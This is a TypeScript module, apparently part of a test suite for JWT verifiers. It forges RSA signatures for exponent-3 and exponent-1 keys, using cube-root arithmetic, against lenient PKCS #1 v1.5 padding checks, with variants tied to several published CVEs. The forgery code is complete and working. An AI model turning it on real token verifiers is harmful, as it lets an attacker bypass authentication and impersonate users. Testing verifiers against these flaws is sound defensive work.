/**
 * RSA signatures without the key, where the public exponent is 3 and PKCS #1 v1.5 padding is checked in part (RFC 8017
 * 8.2.2 and 9.2). A number whose cube begins, or ends, or both, as the lenient reader wants is found without the key: by
 * a cube root from above, and bit by bit from below. Where the exponent is 1 the padded hash is its own signature.
 */
import { createHash } from 'node:crypto'
import type { SigningKey } from '../../testing/issuer.ts'
import { encode } from '../../testing/mint.ts'
import type { Attack } from './attack.ts'
import { keySet } from './key-set-answers.ts'
import { request } from './request-step.ts'
import { issuedToken, unsigned } from './tokens.ts'

const octets = (hex: string) => Buffer.from(hex, 'hex')
const sha256Info = octets('3031300d060960864801650304020105000420')
const padding = octets('0001ffffffffffffffff')
const zero = octets('00')

/** What the cube of the signature begins and ends with; the rest of it is what it happens to be. */
interface Forgery {
  head: Buffer
  tail: Buffer
}

const lenient: readonly { name: string; source: string; block: (hash: Buffer) => Forgery }[] = [
  {
    name: 'garbage-after',
    source: 'CVE-2006-4339',
    block: (hash) => ({ head: Buffer.concat([padding, zero, sha256Info, hash]), tail: Buffer.alloc(0) }),
  },
  {
    name: 'garbage-after-short-padding',
    source: 'RFC 8017 9.2',
    block: (hash) => ({ head: Buffer.concat([octets('0001ff00'), sha256Info, hash]), tail: Buffer.alloc(0) }),
  },
  {
    name: 'garbage-after-bare-hash',
    source: 'RFC 8017 9.2',
    block: (hash) => ({ head: Buffer.concat([padding, zero, hash]), tail: Buffer.alloc(0) }),
  },
  {
    name: 'garbage-in-padding',
    source: 'CVE-2016-1494',
    block: (hash) => ({ head: padding, tail: Buffer.concat([zero, sha256Info, hash]) }),
  },
  {
    // SEQUENCE { SEQUENCE { OID sha256, OCTET STRING garbage }, OCTET STRING hash } over the rest of 256 octets.
    name: 'garbage-in-parameters',
    source: 'CVE-2018-16152',
    block: (hash) => ({
      head: Buffer.concat([padding, octets('003081f23081cd06096086480165030402010481bf')]),
      tail: Buffer.concat([octets('0420'), hash]),
    }),
  },
  {
    name: 'info-not-read',
    source: 'CVE-2022-24771',
    block: (hash) => ({ head: Buffer.concat([padding, zero]), tail: hash }),
  },
  {
    name: 'padding-not-read',
    source: 'CVE-2018-15836',
    block: (hash) => ({ head: zero, tail: Buffer.concat([zero, sha256Info, hash]) }),
  },
  { name: 'hash-at-end', source: 'RFC 8017 8.2.2', block: (hash) => ({ head: zero, tail: hash }) },
]

const exponentOfThree: Attack[] = lenient.map(({ name, source, block }) =>
  publishedWith('Aw', `exponent-3-${name}`, source, (hash, size) => forge(block(hash), size)),
)

const exponentOfOne = publishedWith('AQ', 'exponent-1', 'RFC 8017 3.1', (hash, size) => {
  const info = Buffer.concat([zero, sha256Info, hash])
  return Buffer.concat([octets('0001'), Buffer.alloc(size - info.length - 2, 0xff), info])
})

export const weakExponentAttacks = [...exponentOfThree, exponentOfOne]

/** The issuer publishes one more key, of this exponent; nobody needs its private part, so the modulus is another key's. */
function publishedWith(e: string, name: string, source: string, sign: (hash: Buffer, size: number) => Buffer): Attack {
  return {
    name: `signature-${name}`,
    class: 'signature',
    source,
    build(world, random) {
      const visitor = random.pick(world.visitors)
      const { issuer, claims, granted } = visitor
      const key = issuer.keys[0]
      const size = modulusSize(key)
      if (key.algorithm !== 'RS256' || size === null) return null
      const weak = { ...key.jwk, kid: 'weak', e }
      const input = inputWithOddHash({ alg: 'RS256', kid: weak.kid }, claims)
      const token = `${input}.${encode(sign(createHash('sha256').update(input).digest(), size))}`
      return {
        serve: { [issuer.jwksUri]: keySet([...issuer.keys.map(({ jwk }) => jwk), weak]) },
        steps: [token, issuedToken(world, visitor)].map((text) => request(world, { uri: granted[0], token: text })),
      }
    },
  }
}

function modulusSize({ jwk }: SigningKey): number | null {
  return typeof jwk.n === 'string' ? Buffer.from(jwk.n, 'base64url').length : null
}

/** Only odd numbers have every power of two's cube roots, so the payload is varied until its hash is odd. */
function inputWithOddHash(header: object, claims: object): string {
  for (let serial = 0; ; serial++) {
    const input = unsigned(header, { ...claims, serial }).slice(0, -1)
    if ((createHash('sha256').update(input).digest().at(-1) ?? 0) % 2 === 1) return input
  }
}

/** `size` octets whose cube, below any modulus of that size, begins with `head` and ends with `tail`. */
function forge({ head, tail }: Forgery, size: number): Buffer {
  const bits = BigInt(tail.length * 8)
  // The middle begins high, so that what the low bits add or take does not reach the head.
  const wanted = Buffer.concat([head, Buffer.of(0x80), Buffer.alloc(size - head.length - 1)])
  const root = cubeRoot(toInteger(wanted))
  const signature = ((root >> bits) << bits) | lowCubeRoot(toInteger(tail), bits)
  return octets(signature.toString(16).padStart(size * 2, '0'))
}

/** The largest integer whose cube is not above `value`, by Newton's method from above. */
function cubeRoot(value: bigint): bigint {
  let root = 1n << BigInt(Math.ceil(value.toString(2).length / 3) + 1)
  for (;;) {
    const next = (2n * root + value / (root * root)) / 3n
    if (next >= root) return root
    root = next
  }
}

/** The number below 2^bits whose cube ends with the bits of `tail`, which is odd: each bit is decided by those below it. */
function lowCubeRoot(tail: bigint, bits: bigint): bigint {
  let root = 0n
  for (let bit = 0n; bit < bits; bit++) {
    if (((root * root * root) ^ tail) & (1n << bit)) root |= 1n << bit
  }
  return root
}

function toInteger(text: Buffer): bigint {
  return BigInt(`0x${text.toString('hex') || '0'}`)
}
